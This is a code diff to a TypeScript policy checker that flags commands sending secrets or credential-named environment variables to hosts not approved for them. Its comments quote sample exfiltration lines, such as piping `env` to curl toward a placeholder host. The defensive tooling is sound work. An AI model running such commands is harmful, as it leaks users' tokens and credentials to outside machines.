@@ -155,12 +155,27 @@ export function sentSecretFiles(items: readonly JudgedEffect[], policy: Compiled
   for (const item of items) {
     const via = item.effect.via;
     if (via === undefined) continue;
-    const carrier = items.find(
-      (i) => i.effect.kind === "egress" && i.effect.via?.command === via.command,
+    // A fetch carries its words too (`curl -H "Authorization: $T" https://h`): its URL is the destination.
+    const carrier = (
+      items.find((i) => i.effect.kind === "egress" && i.effect.via?.command === via.command) ??
+      items.find((i) => i.effect.kind === "url" && i.effect.via?.command === via.command)
     )?.effect;
     const d = carrier?.destination;
     const where = d === undefined ? "another machine" : describeDestination(d);
     const verdict = policy.egress.secrets;
+    // A variable named like a credential (`$GITHUB_TOKEN`, decision 0137): it may go to the
+    // hosts egress.credential_hosts pairs it with, and to no other.
+    if (via.carries?.startsWith("$") === true && item.effect.kind === "command") {
+      const name = via.carries.slice(1);
+      if (d?.host !== undefined && policy.egress.credentialHost(name, d.host, d.port) !== undefined) continue;
+      out.push({
+        effect: carrier ?? item.effect,
+        verdict,
+        rule: "egress.secrets environment",
+        reason: `${via.command}: ${via.does}, to ${where}${d?.host === undefined ? "" : `, a host egress.credential_hosts does not pair with ${name}`}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
+      });
+      continue;
+    }
     // The environment printed into a send (`env | curl -d @- h`): it holds the session's tokens.
     if (via.carries !== undefined && item.effect.kind === "command") {
       out.push({
